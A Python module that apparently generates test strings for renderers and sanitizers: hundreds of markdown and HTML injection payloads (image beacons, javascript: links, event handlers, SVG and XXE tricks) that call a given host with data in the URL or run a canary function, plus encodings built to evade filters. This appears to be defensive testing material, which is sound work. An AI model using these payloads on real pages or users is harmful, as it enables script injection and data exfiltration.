"""Text that wants to run something in a reader's browser, or to make it call an address with words in it.

`payloads(place)` gives each as text that could stand in an answer, a document or a name. All call `place`, a
host and port, and where they run they call `window.planted`.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from itertools import chain

RUN = "planted()"

# One on each line, with Python's escapes. {url} is an address that carries words out, {run} some script.
MARKDOWN = r"""
![x]({url})
![]({url})
![x]({url} "t")
![x](<{url}>)
[![x]({url})]({url})
![x][r]\n\n[r]: {url}
![r]\n\n[r]: {url}
![x][]\n\n[x]: <{url}> 'onload={run}'
[x]({url})
[x](<{url}>)
[x][r]\n\n[r]: {url}
[r]\n\n[r]: {url}
[1]: {url}\n\nAs [1] says.
[1]({url})
[1, 2]({url})
![1]({url})
[[1]]({url})
<{url}>
{url}
www.{host}/?q=words
<mail@{host}>
mailto:mail@{host}?body=words
[^1]\n\n[^1]: ![x]({url})
[^1]: <img src='{url}'>\n\nAs said[^1].
*[x]: {url}
![x]({url} =1x1)
![x]({url}){{onerror={run}}}
[x]({url}){{ping={url}}}
| ![x]({url}) |\n|---|\n| <img src='{url}'> |
> ![x]({url})
- ![x]({url})\n  1. {url}
# ![x]({url})
```mermaid\ngraph LR; A[<img src='{url}'>]-->B; click B '{url}'\n```
```{url}\nx\n```
```mermaid\n%%{{init: {{'themeCSS': '@import url({url})'}}}}%%\ngraph LR; A-->B\n```
$$\\href{{{url}}}{{x}}$$
$\\includegraphics{{{url}}}$
$$\\htmlData{{x=1}}{{\\url{{{url}}}}}$$
\\(\\unicode{{<img src='{url}'>}}\\)
[x](javascript:{run})
[x](JaVaScRiPt:{run})
[x](java\nscript:{run})
[x](&#106;avascript:{run})
[x](&#x6A;&#x61;vascript:{run})
[x](\x01javascript:{run})
[x](javascript&colon;{run})
[x](vbscript:{run})
[x](data:text/html,<script>{run}</script>)
![x](data:image/svg+xml,<svg onload={run}>)
[1](javascript:{run})
<javascript:{run}>
[x](javascript:{run} '[1]')
[a]: javascript:{run}\n\n[a]
[1"onmouseover="{run}]
[1]{{onclick={run}}}
![[{url}]]
{{{{ {url} }}}}
{{% include '{url}' %}}
:::image{{src={url}}}
@import '{url}'
"""
HTML = r"""
<img src='{url}'>
<img src={url}>
<img srcset='{url} 1x, {url}#2 2x'>
<img src=x onerror={run}>
<img lowsrc='{url}' dynsrc='{url}'>
<image src='{url}'>
<picture><source srcset='{url}'><img></picture>
<video src='{url}' autoplay></video>
<video poster='{url}'></video>
<audio src='{url}' autoplay></audio>
<video><source src='{url}' onerror={run}></video>
<video><track src='{url}' default kind=captions></video>
<script>{run}</script>
<script src='{url}'></script>
<script type=module>import '{url}'</script>
<scr<script>ipt>{run}</scr</script>ipt>
<script/x>{run}</script>
<script\n>{run}</script\n>
<SCRIPT>{run}</SCRIPT>
<link rel=stylesheet href='{url}'>
<link rel=preload as=image href='{url}'>
<link rel=modulepreload href='{url}'>
<link rel=prefetch href='{url}'>
<link rel=prerender href='{url}'>
<link rel=preconnect href='{url}'>
<link rel=dns-prefetch href='//{host}'>
<link rel=icon href='{url}'>
<link rel=manifest href='{url}'>
<style>@import '{url}'</style>
<style>body{{background:url({url})}}</style>
<div style='background:url({url})'>x</div>
<style>@font-face{{font-family:f;src:url({url})}}*{{font-family:f}}</style>
<p style='list-style:url({url})'>x</p>
<style>input[value^=a]{{background:url({url})}}</style>
<div style='content:url({url});cursor:url({url}),auto'>x</div>
<svg onload={run}>
<svg><script>{run}</script></svg>
<svg><image href='{url}'/></svg>
<svg><use href='{url}#x'/></svg>
<svg><a xlink:href='javascript:{run}'><text y=9>x</text></a></svg>
<svg><feImage href='{url}'/></svg>
<svg><animate onbegin={run} attributeName=x dur=1s>
<svg><set attributeName=href to='{url}'/></svg>
<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>
<svg><style>@import '{url}'</style></svg>
<svg><filter id=f><feImage xlink:href='{url}'/></filter><rect filter='url(#f)'/></svg>
<svg/onload={run}>
<math href='javascript:{run}'>x</math>
<math><mtext><table><mglyph><style><img src=x onerror={run}>
<math><annotation-xml encoding='text/html'><script>{run}</script></annotation-xml></math>
<iframe src='{url}'></iframe>
<iframe srcdoc='<script>parent.{run}</script>'></iframe>
<iframe src=javascript:{run}>
<frameset><frame src='{url}'></frameset>
<object data='{url}'></object>
<embed src='{url}'>
<applet code='{url}'>
<portal src='{url}'></portal>
<fencedframe src='{url}'></fencedframe>
<object type='image/svg+xml' data='{url}'>
<form action='{url}'><input name=q autofocus onfocus={run}><button>x</button></form>
<isindex action='{url}'>
<button formaction='{url}' form=composer>x</button>
<input type=image src='{url}'>
<input autofocus onfocus={run}>
<base href='{url}'>
<base target=_blank><a href='{url}'>x</a>
<meta http-equiv=refresh content='0;url={url}'>
<meta http-equiv=refresh content='0;url=javascript:{run}'>
<meta http-equiv=set-cookie content='a={url}'>
<meta name=referrer content=unsafe-url>
<meta http-equiv=content-security-policy content='report-uri {url}'>
<meta http-equiv=x-dns-prefetch-control content=on>
<a href='{url}' ping='{url}'>x</a>
<a href=javascript:{run}>x</a>
<a href='{url}' class=cite data-open data-n=1>1</a>
<a class=cite href='/' onclick={run} data-n=1>1</a>
<area href='{url}'>
<map name=m><area shape=default href='{url}'></map><img usemap=#m>
<body onload={run} background='{url}'>
<table background='{url}'><td background='{url}'>x</table>
<details open ontoggle={run}>x</details>
<marquee onstart={run}>x
<div onpointerover={run} onmouseover={run}>x</div>
<p onanimationstart={run} style='animation:x 1s'>x
<bgsound src='{url}'>
<select autofocus onfocus={run}></select>
<textarea autofocus onfocus={run}>x
<xss tabindex=1 autofocus onfocus={run}>x
<template shadowrootmode=open><img src='{url}'></template>
<div hx-get='{url}' hx-trigger=load>x</div>
<dialog open onclose={run}>
<div data-module='turn' data-events-url='{url}'>x</div>
<div hx-on:load='{run}'>x</div>
<p hx-trigger='load[{run}]' hx-get='/'>
<!--><script>{run}</script>-->
<!--[if IE]><script>{run}</script><![endif]-->
<![CDATA[<script>{run}</script>]]>
<?xml-stylesheet href='{url}'?>
<?php {run} ?><img src='{url}'>
<!DOCTYPE x [<!ENTITY e SYSTEM '{url}'>]>&e;
</title><script>{run}</script>
</textarea><script>{run}</script>
</style><script>{run}</script>
</template><img src='{url}'>
'"><script>{run}</script>
" onfocus={run} autofocus x="
' onmouseover='{run}
"><img src='{url}'>
`onload={run}`
</p></div></article></main><img src='{url}'>
<noscript><p title='</noscript><img src=x onerror={run}>'>
<plaintext><img src='{url}'>
<object><param name=src value='{url}'></object>
<q cite='{url}'>x</q>
<blockquote cite='{url}'>x
<ins cite='{url}'>x</ins>
<input type=hidden name=csrfmiddlewaretoken value='{url}'>
<output onclick={run}>x</output>
<img src='x' style='x:expression({run})'>
"""
# Ways to write an address.
ADDRESSES = (
    "http://{place}/?q=words",
    "//{place}/?q=words",
    "HTTP://{place}/?q=words",
    "http:/\\{place}/?q=words",
    "http://user:words@{place}/",
    "\\\\{place}\\words",
    "http://{place}/%2e%2e/%77%6f%72%64%73",
    "ht\ttp://{place}/words",
    "https://{place}/words",
    "ws://{place}/words",
    "ftp://{place}/words",
    "blob:http://{place}/words",
    "view-source:http://{place}/",
    "http://{place}\u2025/words",
    "http:\u2044\u2044{place}/words",
)


def texts(block: str) -> list[str]:
    """The lines of a block."""
    return [line.encode().decode("unicode_escape") for line in block.strip().splitlines()]


def payloads(place: str, whole: bool = False) -> list[str]:
    """At least 300 different ones; with `whole` thousands: each way to write each, each address in each."""
    every = texts(MARKDOWN) + texts(HTML)
    first = [_filled(text, ADDRESSES[0], place) for text in every]
    written = list(chain.from_iterable(map(_rewritten, first))) if whole else list(_one_each(first))
    few = ("![x]({url})", "[x]({url})", "<img src='{url}'>", "<a href='{url}' ping='{url}'>x</a>")
    elsewhere = [
        _filled(text, address, place)
        for text in (every if whole else few)
        for address in ADDRESSES[1:]
        if "{url}" in text
    ]
    return list(dict.fromkeys([*first, *written, *elsewhere]))


def _filled(text: str, address: str, place: str) -> str:
    return text.format(url=address.format(place=place), host=place, run=RUN)


def _rewritten(text: str) -> Iterator[str]:
    """The same, hidden from a filter that looks for one spelling."""
    yield text.replace("<", "&lt;").replace(">", "&gt;")
    yield "".join(f"&#{ord(c)};" if c in "<>:/()" else c for c in text)
    yield "".join(f"&#x{ord(c):X};" if not c.isalnum() and c != "\n" else c for c in text)
    yield text.replace("<", "\\<").replace("[", "\\[")
    yield text.replace("<", "\uff1c").replace(">", "\uff1e")
    yield text.replace("<", "<\u200b").replace("](", "]\u200b(")
    yield text.replace("<", "%3C").replace(">", "%3E")
    yield text.replace("<", "\\u003c").replace(">", "\\u003e")
    yield text.swapcase()
    yield f"**{text}**"
    yield f"`{text}`"
    yield f"| a |\n|---|\n| {text} |"
    yield f"> - {text}"
    yield f"\u202e{text}\u202c"


def _one_each(first: Iterable[str]) -> Iterator[str]:
    """One other spelling of each text, in turn."""
    for number, text in enumerate(first):
        ways = list(_rewritten(text))
        yield ways[number % len(ways)]
